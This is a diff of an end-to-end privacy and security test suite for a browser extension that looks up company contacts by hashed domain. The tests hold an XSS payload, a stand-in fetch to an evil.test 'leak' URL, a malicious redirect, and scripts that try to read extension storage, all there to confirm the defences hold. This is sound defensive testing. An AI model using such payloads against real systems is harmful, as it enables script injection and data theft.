@@ -1,4 +1,4 @@
-"""The extension does not say where its user is; a click says it as a hash, to the server and nobody else."""
+"""Privacy: nothing is sent while browsing, and a click sends hashes to the user's server only."""
 
 from __future__ import annotations
 
@@ -11,40 +11,40 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from chromium_support import EXTENSION, PROFILE, Person, until
+from chromium_support import EXTENSION, PROFILE, BrowserUser, until
+from company_support import Company, create_company
 from e2e_stack import PASSWORD, Stack
-from people_support import Company, company_of_three
 from playwright.sync_api import BrowserContext, Dialog, Page, expect
-from proxy_support import Reply, Sent
+from proxy_support import CannedReply, RecordedRequest
 
 from app.core.contacts import contacts
 from app.domain.findings import EmailStatus, FoundCompany, FoundContact, FoundEmail, Source, SourceKind
 from app.infra import clock
 
 SITES = 20
-CHROMES_OWN = re.compile(
+CHROME_HOSTS = re.compile(
     r"(?:update|accounts)\.google(?:apis)?\.com(?::443)?"
-)  # Chromium asks there at start
-NETWORK = "www.linkedin.com:443"  # its pages are played inside the browser; it dials there all the same
-OF_A_PAGE = {("GET", "/", b""), ("GET", "/favicon.ico", b""), ("CONNECT", "", b"")}
+)  # Chromium's own requests at start
+NETWORK = "www.linkedin.com:443"  # Playwright serves its pages, but Chromium still connects
+PAGE_REQUESTS = {("GET", "/", b""), ("GET", "/favicon.ico", b""), ("CONNECT", "", b"")}
 FOUR_DIGITS = re.compile("[0-9a-f]{4}")
-CODE = "<img src=x onerror=alert(1)>"
-TRY_TO_READ = """async () => {
-  const told = {};
+HTML = "<img src=x onerror=alert(1)>"
+READ_STORAGE = """async () => {
+  const keys = {};
   for (const area of ["session", "local"]) {
-    try { told[area] = Object.keys(await chrome.storage[area].get(null)); }
-    catch (error) { told[area] = String(error.message); }
+    try { keys[area] = Object.keys(await chrome.storage[area].get(null)); }
+    catch (error) { keys[area] = String(error.message); }
   }
-  return told;
+  return keys;
 }"""
-TRY_TO_LOAD = """async (id) => {
+FETCH_EXTENSION_FILES = """async (id) => {
   const tried = {};
   for (const path of ["panel.html", "manifest.json", "client/api.js", "icons/16.png"]) {
     tried[path] = await fetch(`chrome-extension://${id}/${path}`).then(() => "loaded", () => "refused");
   }
   return tried;
 }"""
-TRY_TO_RUN = """async () => {
+VIOLATE_POLICY = """async () => {
   const refused = [];
   document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
   const inline = document.createElement("script");
@@ -56,10 +56,10 @@ TRY_TO_RUN = """async () => {
   const button = document.createElement("button");
   button.setAttribute("onclick", "window.ran = 'handler'");
   const frame = document.createElement("iframe");
-  frame.src = "http://evil.test/frame"; // https is dialled before the policy is asked
+  frame.src = "http://evil.test/frame"; // for https, Chromium connects before it checks the policy
   document.body.append(inline, remote, image, button, frame);
   button.click();
-  await fetch("http://evil.test/told").catch(() => null);
+  await fetch("http://evil.test/leak").catch(() => null);
   const rest = () => new Promise((done) => setTimeout(done, 20));
   for (let round = 0; round < 100 && new Set(refused).size < 5; round += 1) await rest();
   return { ran: window.ran ?? null, refused: [...new Set(refused)].sort() };
@@ -68,113 +68,123 @@ TRY_TO_RUN = """async () => {
 
 @pytest.fixture
 def company(stack: Stack) -> Company:
-    return company_of_three(stack)
+    return create_company(stack)
 
 
 @pytest.mark.own_browser
-def test_a_walk_over_twenty_websites_without_a_click_sends_nothing_and_one_click_sends_hashes(
-    person: Person, company: Company
+def test_visiting_twenty_websites_sends_nothing_and_one_click_sends_hashes(
+    user: BrowserUser, company: Company
 ) -> None:
-    person.sign_in()
+    user.sign_in()
     sites = [f"http://shop-{number}.test/" for number in range(1, SITES)] + [company.website]
-    network = "https://www.linkedin.com"
+    linkedin = "https://www.linkedin.com"
     paths = ("in/walker-1", "in/walker-2", f"company/engines-{company.domain}")
-    profiles = [_plays(person.context, f"{network}/{path}/") for path in paths]
+    profiles = [_serve(user.context, f"{linkedin}/{path}/") for path in paths]
 
-    _walk(person, [*sites, *profiles])
+    _browse(user, [*sites, *profiles])
 
-    walk = list(person.network.sent)
-    pages = [one for one in walk if f"http://{one.host}/" in sites or one.host == NETWORK]
-    others = [one for one in walk if one not in pages]
-    clicked = person.click_icon(person.visit(company.website))
-    expect(clicked.get_by_role("button", name="Ada Lovelace")).to_be_visible()
-    to_api = person.network.to_api()
-    print(_table(pages, others, to_api))  # noqa: T201 -- to quote, with `-s`
+    recorded = list(user.proxy.sent)
+    pages = [request for request in recorded if f"http://{request.host}/" in sites or request.host == NETWORK]
+    other_requests = [request for request in recorded if request not in pages]
+    popup = user.click_icon(user.visit(company.website))
+    expect(popup.get_by_role("button", name="Ada Lovelace")).to_be_visible()
+    api_requests = user.proxy.api_requests()
+    print(_table(pages, other_requests, api_requests))  # noqa: T201 -- a table for the docs, shown with -s
 
-    assert {f"http://{one.host}/" for one in pages if one.host != NETWORK} == set(sites)
-    assert {(one.method, one.path, one.body) for one in pages} <= OF_A_PAGE
-    assert [one.text for one in others if not CHROMES_OWN.fullmatch(one.host)] == []
-    assert not [one for one in walk if one.host == person.network.api]
-    assert Counter(one.path for one in to_api) == {
+    assert {f"http://{request.host}/" for request in pages if request.host != NETWORK} == set(sites)
+    assert {(request.method, request.path, request.body) for request in pages} <= PAGE_REQUESTS
+    assert [request.text for request in other_requests if not CHROME_HOSTS.fullmatch(request.host)] == []
+    assert not [request for request in recorded if request.host == user.proxy.api]
+    assert Counter(request.path for request in api_requests) == {
         "/api/ext/session": 1,
         "/api/ext/company-by-hash": 1,
         "/api/ext/leads-by-website-hash": 1,
     }
     hashes = [_sha256(f"www.{company.domain}"), _sha256(company.domain)]
-    assert _sent(to_api, "/api/ext/company-by-hash").json == {"kind": "website", "hashes": hashes}
-    assert _sent(to_api, "/api/ext/leads-by-website-hash").json == {"hash": hashes[1], "limit": 25}
-    assert not _naming(to_api, company.domain)
+    assert _only_request_to(api_requests, "/api/ext/company-by-hash").json == {
+        "kind": "website",
+        "hashes": hashes,
+    }
+    assert _only_request_to(api_requests, "/api/ext/leads-by-website-hash").json == {
+        "hash": hashes[1],
+        "limit": 25,
+    }
+    assert not _requests_containing(api_requests, company.domain)
 
 
-def test_a_click_on_a_profile_sends_its_address_and_nothing_that_stands_on_it(person: Person) -> None:
-    person.sign_in()
-    page = person.plays_profile("grace-walker-9", "Grace Walker", "Building quiet things")
+def test_a_click_on_a_profile_sends_its_url_and_none_of_its_content(user: BrowserUser) -> None:
+    user.sign_in()
+    page = user.serve_profile("grace-walker-9", "Grace Walker", "Building quiet things")
 
-    popup = person.look_at(page)
+    popup = user.open_popup_on(page)
     expect(popup.get_by_role("heading", name="Grace Walker")).to_be_visible()
     expect(popup.get_by_text("Building quiet things")).to_be_visible()
 
-    to_api = person.network.to_api()
+    api_requests = user.proxy.api_requests()
     subject = {"linkedin_url": "https://www.linkedin.com/in/grace-walker-9"}
-    assert _sent(to_api, "/api/ext/lookup").json == {"subject": subject}
-    assert not _naming(to_api, "Building quiet things")
-    assert {one.path for one in to_api} <= {
+    assert _only_request_to(api_requests, "/api/ext/lookup").json == {"subject": subject}
+    assert not _requests_containing(api_requests, "Building quiet things")
+    assert {request.path for request in api_requests} <= {
         "/api/ext/session",
         "/api/ext/lookup",
         "/api/ext/enrichment-request",
     }
-    assert all(one.json["dry_run"] for one in to_api if one.path == "/api/ext/enrichment-request")
+    assert all(
+        request.json["dry_run"] for request in api_requests if request.path == "/api/ext/enrichment-request"
+    )
 
 
-def test_a_click_where_no_website_is_sends_nothing_but_the_sessions_question(
-    person: Person, tmp_path: Path
+def test_a_click_on_a_page_that_is_not_a_website_requests_only_the_session(
+    user: BrowserUser, tmp_path: Path
 ) -> None:
-    person.sign_in()
+    user.sign_in()
     (tmp_path / "salaries.html").write_text("<title>Salaries</title>")
     places = ["about:blank", "chrome://version/", f"file://{tmp_path}/salaries.html", "http://10.1.2.3/wages"]
 
     for place in places:
-        popup = person.look_at(place)
+        popup = user.open_popup_on(place)
         expect(popup.get_by_text("Nothing to look up here")).to_be_visible()
         popup.wait_for_load_state("networkidle")
         popup.close()
 
-    to_api = person.network.to_api()
-    assert [(one.method, one.path, one.body) for one in to_api] == [("GET", "/api/ext/session", b"")] * 4
-    assert not _naming(to_api, "salaries", "10.1.2.3", "version")
+    api_requests = user.proxy.api_requests()
+    assert [(request.method, request.path, request.body) for request in api_requests] == [
+        ("GET", "/api/ext/session", b"")
+    ] * 4
+    assert not _requests_containing(api_requests, "salaries", "10.1.2.3", "version")
 
 
 def test_by_prefix_only_a_few_digits_leave_until_the_people_are_asked_for(
-    person: Person, company: Company
+    user: BrowserUser, company: Company
 ) -> None:
-    person.sign_in(ask="prefix")
+    user.sign_in(look_up_by="prefix")
     whole = _sha256(company.domain)
 
-    popup = person.look_at(company.website)
+    popup = user.open_popup_on(company.website)
     expect(popup.get_by_role("heading", name=company.name)).to_be_visible()
 
-    asked = person.network.to_api("/api/ext/company-by-hash")
-    assert [one.json for one in asked] == [{"prefix": whole[:4]}]
-    assert FOUR_DIGITS.fullmatch(asked[0].json["prefix"])
-    assert not _naming(person.network.to_api(), company.domain, whole)
-    assert not person.network.to_api("/api/ext/leads-by-website-hash")
+    lookups = user.proxy.api_requests("/api/ext/company-by-hash")
+    assert [request.json for request in lookups] == [{"prefix": whole[:4]}]
+    assert FOUR_DIGITS.fullmatch(lookups[0].json["prefix"])
+    assert not _requests_containing(user.proxy.api_requests(), company.domain, whole)
+    assert not user.proxy.api_requests("/api/ext/leads-by-website-hash")
 
-    popup.get_by_role("button", name="Show the people").click()
+    popup.get_by_role("button", name="Show people").click()
     expect(popup.get_by_role("button", name="Ada Lovelace")).to_be_visible()
 
-    leads = _sent(person.network.to_api(), "/api/ext/leads-by-website-hash")
+    leads = _only_request_to(user.proxy.api_requests(), "/api/ext/leads-by-website-hash")
     assert leads.json == {"hash": whole, "limit": 25}
-    assert not _naming(person.network.to_api(), company.domain)
+    assert not _requests_containing(user.proxy.api_requests(), company.domain)
 
 
-def test_nothing_but_a_bearer_token_is_sent_with_what_is_asked(person: Person, company: Company) -> None:
-    person.context.add_cookies([{"name": "seen", "value": "before", "url": person.server}])
-    person.visit(f"{person.server}/healthz")
-    assert person.network.to_api("/healthz")[0].headers["Cookie"] == "seen=before"  # a page's own load has it
-    person.network.sent.clear()
+def test_requests_carry_no_credentials_but_the_bearer_token(user: BrowserUser, company: Company) -> None:
+    user.context.add_cookies([{"name": "seen", "value": "before", "url": user.server}])
+    user.visit(f"{user.server}/healthz")
+    assert user.proxy.api_requests("/healthz")[0].headers["Cookie"] == "seen=before"  # a page load sends it
+    user.proxy.sent.clear()
 
-    popup = person.look_at(company.website)
-    person.fill_in(popup)
+    popup = user.open_popup_on(company.website)
+    user.submit_sign_in(popup)
     popup.get_by_role("button", name="Ada Lovelace").click()
     popup.get_by_role("button", name="Reveal e-mail").click()
     expect(popup.get_by_role("link", name=company.emails["Ada"])).to_be_visible()
@@ -184,15 +194,15 @@ def test_nothing_but_a_bearer_token_is_sent_with_what_is_asked(person: Person, c
     expect(popup.get_by_text("Saved in Engineers")).to_be_visible()
     popup.get_by_role("button", name="History").click()
     expect(popup.get_by_role("button", name=re.compile("E-mail found"))).to_be_visible()
-    token = person.stored("session")["session"]["token"]
+    token = user.get_storage("session")["session"]["token"]
     popup.get_by_role("button", name="Settings").click()
     popup.get_by_role("button", name="Sign out").click()
     expect(popup.get_by_label("Password")).to_be_visible()
 
-    login, *rest = person.network.to_api("/api/")
+    login, *rest = user.proxy.api_requests("/api/")
     assert login.path == "/api/ext/login"
     assert "Authorization" not in login.headers
-    assert {one.path.partition("?")[0].removeprefix("/api/ext/") for one in rest} >= {
+    assert {request.path.partition("?")[0].removeprefix("/api/ext/") for request in rest} >= {
         *(
             "company-by-hash",
             "leads-by-website-hash",
@@ -203,68 +213,68 @@ def test_nothing_but_a_bearer_token_is_sent_with_what_is_asked(person: Person, c
             "logout",
         ),
     }
-    for one in [login, *rest]:
-        assert one.method in ("GET", "POST")  # no OPTIONS: the server need not answer to other origins
-        assert "Cookie" not in one.headers
-        assert "Referer" not in one.headers
-        assert one.headers.get("Origin", "") in ("", f"chrome-extension://{person.id}")
-        assert one is login or one.headers["Authorization"] == f"Bearer {token}"
-        assert token not in one.path
-        assert token.encode() not in one.body
-        assert one is login or PASSWORD not in one.text
-    assert not _naming(person.network.to_api("/api/ext/company-by-hash"), company.domain)
+    for request in [login, *rest]:
+        assert request.method in ("GET", "POST")  # no OPTIONS: the server needs no CORS
+        assert "Cookie" not in request.headers
+        assert "Referer" not in request.headers
+        assert request.headers.get("Origin", "") in ("", f"chrome-extension://{user.extension_id}")
+        assert request is login or request.headers["Authorization"] == f"Bearer {token}"
+        assert token not in request.path
+        assert token.encode() not in request.body
+        assert request is login or PASSWORD not in request.text
+    assert not _requests_containing(user.proxy.api_requests("/api/ext/company-by-hash"), company.domain)
 
 
-def test_the_token_goes_to_nobody_whom_the_server_points_to(person: Person, company: Company) -> None:
-    person.sign_in()
-    elsewhere = Reply(307, {}, {"Location": "https://evil.test/api/ext/company-by-hash"})
+def test_the_token_is_not_sent_to_a_redirect_target(user: BrowserUser, company: Company) -> None:
+    user.sign_in()
+    elsewhere = CannedReply(307, {}, {"Location": "https://evil.test/api/ext/company-by-hash"})
 
-    with person.network.failing("/api/ext/company-by-hash", elsewhere):
-        popup = person.look_at(company.website)
-        expect(popup.get_by_role("alert")).to_contain_text("does not answer")
+    with user.proxy.replying("/api/ext/company-by-hash", elsewhere):
+        popup = user.open_popup_on(company.website)
+        expect(popup.get_by_role("alert")).to_contain_text("does not respond")
 
-    assert not [one for one in person.network.sent if "evil.test" in one.host]
+    assert not [request for request in user.proxy.sent if "evil.test" in request.host]
 
 
 @pytest.mark.own_browser
 @pytest.mark.parametrize("stay", [False, True], ids=["until the browser ends", "staying signed in"])
-def test_the_token_can_be_read_by_no_page_and_no_content_script(
-    person: Person, company: Company, tmp_path: Path, *, stay: bool
+def test_no_page_and_no_content_script_can_read_the_token(
+    user: BrowserUser, company: Company, tmp_path: Path, *, stay: bool
 ) -> None:
-    popup = person.look_at(company.website)
+    popup = user.open_popup_on(company.website)
     if stay:
         popup.get_by_label("Stay signed in").check()
-    person.fill_in(popup)
+    user.submit_sign_in(popup)
     expect(popup.get_by_role("heading", name=company.name)).to_be_visible()
-    page = person.tabs()[0]
+    page = user.tabs()[0]
 
-    reached = person.worker.evaluate(
+    reached = user.worker.evaluate(
         f"""async () => {{
           const [tab] = await chrome.tabs.query({{ active: true }});
           const [{{ result }}] = await chrome.scripting.executeScript({{
-            target: {{ tabId: tab.id }}, func: {TRY_TO_READ} }});
+            target: {{ tabId: tab.id }}, func: {READ_STORAGE} }});
           return result;
         }}"""
     )
     from_page = page.evaluate("() => typeof chrome?.storage + ' ' + typeof chrome?.runtime?.sendMessage")
 
-    token = person.stored("session")["session"]["token"]
-    on_disk = json.dumps(person.stored("local"))
+    token = user.get_storage("session")["session"]["token"]
+    on_disk = json.dumps(user.get_storage("local"))
     files = [path for path in (tmp_path / "profile").rglob("*") if path.is_file()]
     assert token.startswith("ses_")
-    assert {area: "not allowed" in told for area, told in reached.items()} == {"session": True, "local": True}
+    assert {area: "not allowed" in text for area, text in reached.items()} == {"session": True, "local": True}
     assert from_page == "undefined undefined"
     assert (token in on_disk) is stay
     assert stay or not [path.name for path in files if token.encode() in path.read_bytes()]
-    assert PASSWORD not in on_disk + json.dumps(person.stored("session"))
+    assert PASSWORD not in on_disk + json.dumps(user.get_storage("session"))
     assert len(files) > 20
 
 
-def test_a_website_cannot_load_frame_or_find_the_extension(person: Person) -> None:
-    page = person.visit("http://curious.test/")
+def test_a_website_cannot_load_frame_or_find_the_extension(user: BrowserUser) -> None:
+    page = user.visit("http://curious.test/")
     manifest = json.loads((EXTENSION / "manifest.json").read_text())
 
-    tried = page.evaluate(TRY_TO_LOAD, person.id)
+    tried = page.evaluate(FETCH_EXTENSION_FILES, user.extension_id)
     page.evaluate(
         """id => new Promise(done => {
           const frame = document.createElement("iframe");
@@ -272,7 +282,7 @@ def test_a_website_cannot_load_frame_or_find_the_extension(person: Person) -> No
           frame.src = `chrome-extension://${id}/panel.html`;
           document.body.append(frame);
         })""",
-        person.id,
+        user.extension_id,
     )
 
     assert "web_accessible_resources" not in manifest
@@ -280,20 +290,20 @@ def test_a_website_cannot_load_frame_or_find_the_extension(person: Person) -> No
     assert [frame.url for frame in page.frames[1:] if "panel" in frame.url] == []
 
 
-def test_chrome_warns_of_nothing_before_somebody_signs_in(person: Person) -> None:
+def test_chrome_shows_no_permission_warning_at_installation(user: BrowserUser) -> None:
     shipped = json.loads((EXTENSION / "manifest.json").read_text())
 
-    none = _warnings(person, shipped)
-    control = _warnings(person, shipped | {"permissions": [*shipped["permissions"], "tabs"]})
+    none = _warnings(user, shipped)
+    control = _warnings(user, shipped | {"permissions": [*shipped["permissions"], "tabs"]})
 
     assert none == []
     assert control == ["Read your browsing history"]
 
 
-def test_the_pages_policy_refuses_code_pictures_frames_and_words_to_elsewhere(person: Person) -> None:
-    popup = person.look_at("http://quiet.test/")
+def test_the_content_security_policy_blocks_scripts_images_frames_and_requests(user: BrowserUser) -> None:
+    popup = user.open_popup_on("http://quiet.test/")
 
-    tried = popup.evaluate(TRY_TO_RUN)
+    tried = popup.evaluate(VIOLATE_POLICY)
 
     assert tried["ran"] is None
     assert tried["refused"] == [
@@ -303,69 +313,69 @@ def test_the_pages_policy_refuses_code_pictures_frames_and_words_to_elsewhere(pe
         "script-src-attr",
         "script-src-elem",
     ]
-    assert not [one for one in person.network.sent if "evil.test" in one.text]
+    assert not [request for request in user.proxy.sent if "evil.test" in request.text]
 
 
-def test_html_in_whatever_is_stored_or_read_is_shown_as_text(person: Person, stack: Stack) -> None:
-    profile, domain = _stored_code(stack)
-    person.sign_in(lists=[f"List {CODE}"])
+def test_html_in_stored_or_page_data_is_shown_as_text(user: BrowserUser, stack: Stack) -> None:
+    profile, domain = _store_contact_with_html(stack)
+    user.sign_in(lists=[f"List {HTML}"])
     ran: list[str] = []
 
     def dismiss(dialog: Dialog) -> None:
         ran.append(dialog.message)
         dialog.dismiss()
 
-    person.context.on("dialog", dismiss)
+    user.context.on("dialog", dismiss)
 
-    popup = person.look_at(f"http://{domain}/")
-    expect(popup.get_by_role("heading", name=f"Company {CODE}")).to_be_visible()
-    popup.get_by_role("button", name=f"Name {CODE}").click()
-    expect(popup.get_by_role("heading", name=f"Name {CODE}")).to_be_visible()
-    expect(popup.get_by_text(f"Title {CODE}")).to_be_visible()
+    popup = user.open_popup_on(f"http://{domain}/")
+    expect(popup.get_by_role("heading", name=f"Company {HTML}")).to_be_visible()
+    popup.get_by_role("button", name=f"Name {HTML}").click()
+    expect(popup.get_by_role("heading", name=f"Name {HTML}")).to_be_visible()
+    expect(popup.get_by_text(f"Title {HTML}")).to_be_visible()
     popup.get_by_role("button", name="Reveal e-mail").click()
     popup.get_by_text("Receipt").click()
-    expect(popup.get_by_text(f"Imported from file {CODE}")).to_be_visible()
+    expect(popup.get_by_text(f"Imported from file {HTML}")).to_be_visible()
     popup.get_by_text("Save this profile").click()
-    popup.get_by_label("List").fill(f"List {CODE}")
-    popup.get_by_label("Tags").fill(CODE)
-    popup.get_by_label("Note").fill(f"</textarea>{CODE}")
+    popup.get_by_label("List").fill(f"List {HTML}")
+    popup.get_by_label("Tags").fill(HTML)
+    popup.get_by_label("Note").fill(f"</textarea>{HTML}")
     popup.get_by_role("button", name="Save", exact=True).click()
-    expect(popup.get_by_text(f"Saved in List {CODE}")).to_be_visible()
-    _has_no_code(popup)
+    expect(popup.get_by_text(f"Saved in List {HTML}")).to_be_visible()
+    _assert_no_injected_elements(popup)
     popup.get_by_role("button", name="History").click()
-    expect(popup.get_by_role("button", name=f"Name {CODE}")).to_be_visible()
-    _has_no_code(popup)
+    expect(popup.get_by_role("button", name=f"Name {HTML}")).to_be_visible()
+    _assert_no_injected_elements(popup)
     popup.close()
 
-    again = person.look_at(person.plays_profile("coded-page", f"Page {escape(CODE)}", escape(CODE)))
-    expect(again.get_by_role("heading", name=f"Page {CODE}")).to_be_visible()
-    _has_no_code(again)
+    again = user.open_popup_on(user.serve_profile("coded-page", f"Page {escape(HTML)}", escape(HTML)))
+    expect(again.get_by_role("heading", name=f"Page {HTML}")).to_be_visible()
+    _assert_no_injected_elements(again)
     again.close()
 
-    saved = person.look_at(person.plays_profile(profile, "Somebody"))
-    expect(saved.get_by_label("Note")).to_have_value(f"</textarea>{CODE}")
-    _has_no_code(saved)
-    person.context.remove_listener("dialog", dismiss)
+    saved = user.open_popup_on(user.serve_profile(profile, "Somebody"))
+    expect(saved.get_by_label("Note")).to_have_value(f"</textarea>{HTML}")
+    _assert_no_injected_elements(saved)
+    user.context.remove_listener("dialog", dismiss)
     assert ran == []
 
 
-def _walk(person: Person, addresses: list[str]) -> None:
-    """Visit every page, reload some, go back and forth between tabs, until the alarm has rung."""
-    second = person.context.new_page()
+def _browse(user: BrowserUser, addresses: list[str]) -> None:
+    """Visit every page, reload some, go back and forth, switch tabs, and let the alarm fire."""
+    second = user.context.new_page()
     for number, address in enumerate(addresses):
-        page = person.tabs()[number % 2]
+        page = user.tabs()[number % 2]
         page.bring_to_front()
         page.goto(address)
         if number % 5 == 0:
             page.reload()
     second.go_back()
     second.go_forward()
-    person.ring_alarm()
-    until(lambda: person.worker.evaluate("async () => (await chrome.alarms.getAll()).length === 0"))
+    user.trigger_alarm()
+    until(lambda: user.worker.evaluate("async () => (await chrome.alarms.getAll()).length === 0"))
     second.close()
 
 
-def _plays(context: BrowserContext, url: str) -> str:
+def _serve(context: BrowserContext, url: str) -> str:
     html = PROFILE.format(n=3, name="Walker", headline="Baker")
     context.route(url, lambda route: route.fulfill(body=html, content_type="text/html"))
     return url
@@ -375,50 +385,58 @@ def _sha256(text: str) -> str:
     return hashlib.sha256(text.encode()).hexdigest()
 
 
-def _sent(requests: list[Sent], path: str) -> Sent:
-    (found,) = [one for one in requests if one.path == path]
+def _only_request_to(requests: list[RecordedRequest], path: str) -> RecordedRequest:
+    (found,) = [request for request in requests if request.path == path]
     return found
 
 
-def _naming(requests: list[Sent], *names: str) -> list[str]:
-    """Give the requests that say one of the names: in path, headers or body."""
-    return [one.text for one in requests if any(name.lower() in one.text.lower() for name in names)]
+def _requests_containing(requests: list[RecordedRequest], *names: str) -> list[str]:
+    """Return the requests that contain one of the texts in path, headers or body."""
+    return [
+        request.text for request in requests if any(name.lower() in request.text.lower() for name in names)
+    ]
 
 
-def _table(pages: list[Sent], others: list[Sent], clicked: list[Sent]) -> str:
-    """Write what was sent, for people to read."""
-    loads = Counter(one.host for one in pages)
+def _table(
+    pages: list[RecordedRequest], other_requests: list[RecordedRequest], after_click: list[RecordedRequest]
+) -> str:
+    """Return a readable table of the requests."""
+    loads = Counter(request.host for request in pages)
     rows = [("while browsing", f"{host}, the page itself", str(count)) for host, count in loads.items()]
-    own = Counter(one.host for one in others)
+    own = Counter(request.host for request in other_requests)
     rows += [("while browsing", f"{host}, Chromium itself", str(count)) for host, count in own.items()]
     rows.append(("while browsing", "to the server", "0"))
     rows += [
-        ("after one click", f"{one.method} {one.path} {one.body.decode()[:60]}", str(len(one.body)))
-        for one in clicked
+        (
+            "after one click",
+            f"{request.method} {request.path} {request.body.decode()[:60]}",
+            str(len(request.body)),
+        )
+        for request in after_click
     ]
     return "\n" + "\n".join(f"{when:16} {what:100} {size:>5}" for when, what, size in rows)
 
 
-def _warnings(person: Person, manifest: dict[str, Any]) -> list[str]:
-    warnings: list[str] = person.worker.evaluate(
+def _warnings(user: BrowserUser, manifest: dict[str, Any]) -> list[str]:
+    warnings: list[str] = user.worker.evaluate(
         "manifest => chrome.management.getPermissionWarningsByManifest(JSON.stringify(manifest))", manifest
     )
     return warnings
 
 
-def _stored_code(stack: Stack) -> tuple[str, str]:
-    """Store a person of whom everything is HTML; give the profile and the website."""
+def _store_contact_with_html(stack: Stack) -> tuple[str, str]:
+    """Store a contact whose every field contains HTML; return its slug and website."""
     now = clock.now()
-    source = Source(f"file {CODE}", SourceKind.IMPORT, now)
+    source = Source(f"file {HTML}", SourceKind.IMPORT, now)
     domain = f"coded-{now.timestamp():.0f}.test"
-    made = FoundCompany(source=source, name=f"Company {CODE}", domain=domain, industry=f"Industry {CODE}")
+    made = FoundCompany(source=source, name=f"Company {HTML}", domain=domain, industry=f"Industry {HTML}")
     address = FoundEmail(email=f"code@{domain}", type="work", status=EmailStatus.VALID, source=source)
     slug = f"coded-{now.timestamp():.0f}"
     found = FoundContact(
         source=source,
-        full_name=f"Name {CODE}",
-        title=f"Title {CODE}",
-        city=f"City {CODE}",
+        full_name=f"Name {HTML}",
+        title=f"Title {HTML}",
+        city=f"City {HTML}",
         linkedin_url=f"https://www.linkedin.com/in/{slug}",
         company=made,
         emails=(address,),
@@ -428,6 +446,6 @@ def _stored_code(stack: Stack) -> tuple[str, str]:
     return slug, domain
 
 
-def _has_no_code(panel: Page) -> None:
+def _assert_no_injected_elements(panel: Page) -> None:
     foreign = "img:not([src='icons/48.png']), script:not([src]), iframe"
     assert panel.evaluate("selector => document.querySelectorAll(selector).length", foreign) == 0
